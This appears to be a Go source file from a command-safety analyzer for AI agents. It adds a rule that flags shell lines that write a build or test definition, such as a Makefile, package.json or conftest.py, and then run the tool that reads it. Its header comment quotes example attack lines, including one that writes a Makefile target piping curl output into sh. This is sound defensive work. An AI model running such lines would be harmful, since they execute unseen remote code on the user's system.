@@ -1,0 +1,139 @@
+package safety
+
+import (
+	"path"
+	"slices"
+	"strings"
+)
+
+// A build or test tool reads what it runs from files: make its Makefile, npm its package.json's
+// scripts, pytest its conftest.py, cargo its build.rs and .cargo/config.toml. A command line that
+// writes one of those files and then starts the tool runs what it just wrote, unseen: echo
+// 'test:; curl x | sh' > Makefile && make test is not the declared make test, cp /tmp/x
+// package.json && npm test not the recognised npm test. The tool asks (RuleOpaqueCode) when an
+// earlier command of the line wrote — by a redirection, tee, cp, mv, ln, install, sed -i, ... —
+// a build definition or tool configuration where the tool reads it: in its directory or a -C
+// directory, or below one a test runner walks (tests/conftest.py). Writing the sources and tests
+// the tool builds and runs is what agents do all day (echo ... > tests/test_x.py; pytest) and
+// stays admitted; so does a touch, which changes no content, and a git checkout or restore of a
+// file, which puts back the project's own version. A patch or archive writes names the engine
+// does not read (Known limits).
+
+// buildDefinitions are the base names of files that decide what a build or test tool runs: its
+// targets, scripts, hooks, plugins, build scripts, or the shell and programs it starts.
+var buildDefinitions = strings.Fields("Makefile makefile GNUmakefile justfile Justfile .justfile " +
+	"Taskfile.yml Taskfile.yaml Taskfile.dist.yml Rakefile rakefile Rakefile.rb " +
+	"package.json .npmrc .yarnrc .yarnrc.yml .pnpmfile.cjs pnpm-workspace.yaml bunfig.toml deno.json deno.jsonc " +
+	"Cargo.toml build.rs go.mod go.work conftest.py pytest.ini pyproject.toml setup.py setup.cfg tox.ini " +
+	"noxfile.py pom.xml build.gradle build.gradle.kts settings.gradle settings.gradle.kts gradle.properties " +
+	"init.gradle gradlew mvnw build.xml build.sbt CMakeLists.txt meson.build build.ninja BUILD BUILD.bazel " +
+	"WORKSPACE WORKSPACE.bazel MODULE.bazel .bazelrc Gemfile mix.exs composer.json Package.swift build.zig " +
+	".pre-commit-config.yaml Dockerfile Containerfile docker-compose.yml docker-compose.yaml compose.yml " +
+	"compose.yaml Gruntfile.js gulpfile.js flake.nix default.nix shell.nix Pulumi.yaml Vagrantfile Tiltfile " +
+	"skaffold.yaml dune-project Setup.hs stack.yaml SConstruct tasks.py .mocharc.js .mocharc.cjs .mocharc.yml " +
+	"turbo.json nx.json")
+
+// buildConfigPrefixes begin the names of JavaScript tools' configuration modules, which run as
+// code when the tool loads them (jest.config.ts, vite.config.mjs, eslint.config.js).
+var buildConfigPrefixes = strings.Fields("jest.config. vitest.config. vite.config. webpack.config. " +
+	"rollup.config. playwright.config. cypress.config. eslint.config. .eslintrc. karma.conf. " +
+	"babel.config. .babelrc. next.config. nuxt.config. svelte.config. astro.config. tsup.config. " +
+	"esbuild.config.")
+
+// buildConfigDirs are directories whose files configure a tool from the project (.cargo/config.toml,
+// .mvn/maven.config, .mvn/extensions.xml, gradle/wrapper/gradle-wrapper.properties).
+var buildConfigDirs = strings.Fields(".cargo .mvn .mvn/wrapper gradle/wrapper .husky")
+
+// isBuildDefinition says whether p, a resolved path, is a file a build or test tool reads what it
+// runs from.
+func isBuildDefinition(p string) bool {
+	base := path.Base(p)
+	if slices.Contains(buildDefinitions, base) {
+		return true
+	}
+	for _, pre := range buildConfigPrefixes {
+		if strings.HasPrefix(base, pre) {
+			return true
+		}
+	}
+	dir := path.Dir(p)
+	return slices.ContainsFunc(buildConfigDirs, func(d string) bool { return dir == d || strings.HasSuffix(dir, "/"+d) })
+}
+
+// maxDefinitionsWritten bounds the build definitions a line's state keeps.
+const maxDefinitionsWritten = 16
+
+// buildsWritten returns a build definition an earlier command of the line wrote where the build
+// or test tool seg starts reads it. The paths recorded since the last segment are scanned once,
+// and the definitions among them kept, so a long line is not scanned again for each command.
+func (a *analyzer) buildsWritten(seg *segment) (string, bool) {
+	for ; a.pathsSeen < len(a.out.paths); a.pathsSeen++ {
+		r := &a.out.paths[a.pathsSeen]
+		if r.op != opWrite || r.dynamic || r.members || !a.contentWrite(r.seg) {
+			continue
+		}
+		f := r.raw
+		if r.cwd != "" {
+			f = resolvePath(r.cwd, r.raw)
+		}
+		if ls := a.line; isBuildDefinition(f) && (ls == nil || len(ls.definitions) < maxDefinitionsWritten) {
+			ls = a.state()
+			ls.definitions = append(ls.definitions, f)
+		}
+	}
+	ls := a.line
+	if ls == nil || len(ls.definitions) == 0 || !buildsHere(seg) {
+		return "", false
+	}
+	dirs := a.buildDirs(seg)
+	for _, f := range ls.definitions {
+		if slices.ContainsFunc(dirs, func(d string) bool { return readsDefinition(f, d) }) {
+			return f, true
+		}
+	}
+	return "", false
+}
+
+// readsDefinition says whether a tool working in dir (cwdUnknown: anywhere) reads the definition
+// f: one in dir, in a configuration directory below it, or one below it named conftest.py, which
+// pytest loads from every directory it collects.
+func readsDefinition(f, dir string) bool {
+	if dir == cwdUnknown {
+		return true
+	}
+	d := path.Dir(f)
+	for _, c := range buildConfigDirs {
+		if rest, ok := strings.CutSuffix(d, "/"+c); ok || d == c {
+			d = rest
+			if d == "" {
+				d = "."
+			}
+			break
+		}
+	}
+	return d == path.Clean(dir) || path.Base(f) == "conftest.py" && below(f, dir)
+}
+
+// buildDirs are the directories a build or test tool reads its definitions in: its working
+// directory, its -C/--directory values, and the roots a test runner walks (walkRoots).
+func (a *analyzer) buildDirs(seg *segment) []string {
+	dirs := []string{a.fetchKey(".")}
+	if a.cwd == cwdUnknown {
+		dirs[0] = cwdUnknown
+	}
+	for _, d := range directoryOptions(seg, "-C") {
+		dirs = append(dirs, a.wordKey(d))
+	}
+	return append(dirs, a.walkRoots(seg)...)
+}
+
+// contentWrite says whether the write a path records, by the segment whose words named it (0: a
+// redirection), can change what the file says: touch creates an empty file or changes a time, and
+// git puts back a version the project committed.
+func (a *analyzer) contentWrite(seg int16) bool {
+	if seg == 0 {
+		return true
+	}
+	n := a.out.segments[seg-1].name
+	return n != "touch" && n != cmdGit
+}
